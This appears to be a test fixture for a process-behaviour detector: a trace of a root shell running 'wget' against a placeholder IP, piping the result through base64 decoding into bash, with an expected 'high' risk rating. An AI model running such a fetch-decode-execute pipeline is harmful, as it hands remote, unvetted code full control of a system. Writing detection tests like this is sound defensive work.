# wget … | base64 -d | bash, by root.
sh is /bin/bash
sh fork wget
wget exec /usr/bin/wget "wget -qO- http://203.0.113.9/i"
sh fork b64
b64 exec /usr/bin/base64 "base64 -d"
sh fork run
run exec /bin/bash "bash"
wget write pipe:1
b64 read pipe:1
b64 write pipe:2
run read pipe:2
expect high runs what it is handed from the network
